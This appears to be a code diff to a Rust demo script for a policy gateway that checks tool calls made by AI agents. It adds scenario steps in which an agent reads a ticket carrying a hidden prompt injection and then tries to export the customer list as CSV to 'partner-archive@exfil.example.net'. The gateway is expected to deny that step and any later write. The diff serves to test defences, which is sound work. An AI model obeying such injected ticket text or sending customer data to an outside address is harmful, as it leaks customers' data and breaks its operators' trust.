@@ -23,6 +23,10 @@ struct Step {
     ticket: &'static str,
     story: &'static str,
     expect: &'static str,
+    /// The session, when not the agent's default demo session.
+    session: Option<&'static str>,
+    /// Print every reason, not just the main one.
+    all_reasons: bool,
 }
 
 fn script() -> Vec<Step> {
@@ -34,6 +38,8 @@ fn script() -> Vec<Step> {
             ticket: "TRIAGE-1",
             story: "ordinary read",
             expect: "allow",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "support-triage",
@@ -42,6 +48,8 @@ fn script() -> Vec<Step> {
             ticket: "TRIAGE-1",
             story: "reads a ticket that hides a prompt injection",
             expect: "allow",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "support-triage",
@@ -50,6 +58,8 @@ fn script() -> Vec<Step> {
             ticket: "TRIAGE-1",
             story: "obeys the injected text: refund to the attacker",
             expect: "deny",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "support-triage",
@@ -58,6 +68,8 @@ fn script() -> Vec<Step> {
             ticket: "TRIAGE-1",
             story: "argument outside its pattern",
             expect: "deny",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -66,6 +78,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-7",
             story: "ordinary read",
             expect: "allow",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -74,6 +88,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-7",
             story: "write at tier review",
             expect: "allow",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -82,6 +98,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-8",
             story: "refund: a person must approve",
             expect: "approval_required",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -90,6 +108,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-9",
             story: "large refund: two people must approve",
             expect: "approval_required",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -98,6 +118,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-9",
             story: "amount above the card's limit",
             expect: "deny",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -106,6 +128,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-8",
             story: "e-mail to the company's domain",
             expect: "allow",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -114,6 +138,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-8",
             story: "e-mail to an outside domain",
             expect: "deny",
+            session: None,
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -122,6 +148,38 @@ fn script() -> Vec<Step> {
             ticket: "CRM-10",
             story: "hand-written forbid policy",
             expect: "deny",
+            session: None,
+            all_reasons: false,
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "get_ticket",
+            args: json!({"ticket_id": "T-1004"}),
+            ticket: "CRM-11",
+            story: "reads a ticket hiding an instruction to export the customer list",
+            expect: "allow",
+            session: Some("demo-crm-ticket"),
+            all_reasons: false,
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "export_customers",
+            args: json!({"to": "partner-archive@exfil.example.net", "format": "csv"}),
+            ticket: "CRM-11",
+            story: "obeys the hidden text: export the customer list",
+            expect: "deny",
+            session: Some("demo-crm-ticket"),
+            all_reasons: true,
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "issue_refund",
+            args: json!({"account_id": "ACC-0002", "amount": 20, "reason": "goodwill"}),
+            ticket: "CRM-11",
+            story: "any write after the injection was detected",
+            expect: "deny",
+            session: Some("demo-crm-ticket"),
+            all_reasons: false,
         },
         Step {
             agent: "crm-writer",
@@ -130,6 +188,8 @@ fn script() -> Vec<Step> {
             ticket: "CRM-10",
             story: "tool not on the scope card",
             expect: "deny",
+            session: None,
+            all_reasons: false,
         },
     ]
 }
@@ -236,7 +296,7 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
         let resp = client
             .post(format!("http://{addr}/v1/decisions"))
             .bearer_auth(&key)
-            .json(&json!({"tool": step.tool, "arguments": step.args, "session": format!("demo-{}", step.agent), "correlation_id": step.ticket}))
+            .json(&json!({"tool": step.tool, "arguments": step.args, "session": step.session.map_or_else(|| format!("demo-{}", step.agent), str::to_string), "correlation_id": step.ticket}))
             .send()
             .await
             .context("calling the gateway")?;
@@ -259,6 +319,16 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
         if decision != "deny" && tier != "auto" {
             what = format!("{decision} ({tier})");
         }
+        let all: Vec<String> = body
+            .get("reasons")
+            .and_then(Value::as_array)
+            .map(|r| {
+                r.iter()
+                    .filter_map(Value::as_str)
+                    .map(str::to_string)
+                    .collect()
+            })
+            .unwrap_or_default();
         let reason = body
             .get("reasons")
             .and_then(Value::as_array)
@@ -317,7 +387,11 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
             ran,
             step.story.to_string(),
             short_args(&step.args),
-            reason,
+            if step.all_reasons {
+                all.join("\n          ")
+            } else {
+                reason
+            },
         ]);
     }
     let header = ["#", "agent", "tool", "decision", "ran", "scenario"];
@@ -366,7 +440,7 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
     );
     match &report.first_break {
         None => println!(
-            "ledger:  {count} records ({} token issues + {} decisions + {} outcomes), hash chain verified; head {}",
+            "ledger:  {count} records ({} token issues + {} decisions + {} outcomes and alerts), hash chain verified; head {}",
             token_lines.len(),
             rows.len(),
             count.saturating_sub((rows.len() + token_lines.len()) as u64),
